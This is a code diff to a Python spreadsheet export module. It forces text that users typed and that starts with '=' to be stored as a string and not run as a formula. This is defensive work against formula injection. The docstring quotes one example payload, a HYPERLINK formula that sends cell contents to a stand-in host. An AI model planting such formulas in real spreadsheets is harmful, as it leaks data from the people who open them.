@@ -2,7 +2,9 @@
 leaves as a file streamed to the browser or as bytes.
 
 One writer, so that what holds for one export holds for all: column widths and a bold header, a
-frozen header row, times as local wall times (Excel has no time zones) in one format.
+frozen header row, times as local wall times (Excel has no time zones) in one format, and text
+that people typed written as text, never as a formula: a description sent through the public
+form as `=HYPERLINK("http://x/?leak="&A1)` is shown, not run, in a worker's spreadsheet program.
 """
 
 import io
@@ -48,6 +50,10 @@ class Sheet:
                 value = timezone.localtime(value).replace(tzinfo=None)
             cell = WriteOnlyCell(self.sheet, value=value)
             cell.number_format = TIME_FORMAT
+        elif isinstance(value, str) and value.startswith("="):
+            # openpyxl writes a text beginning with "=" as a formula: this sheet never holds one.
+            cell = WriteOnlyCell(self.sheet, value=value)
+            cell.data_type = "s"
         elif font is not None:
             cell = WriteOnlyCell(self.sheet, value=value)  # type: ignore[arg-type]
         else:
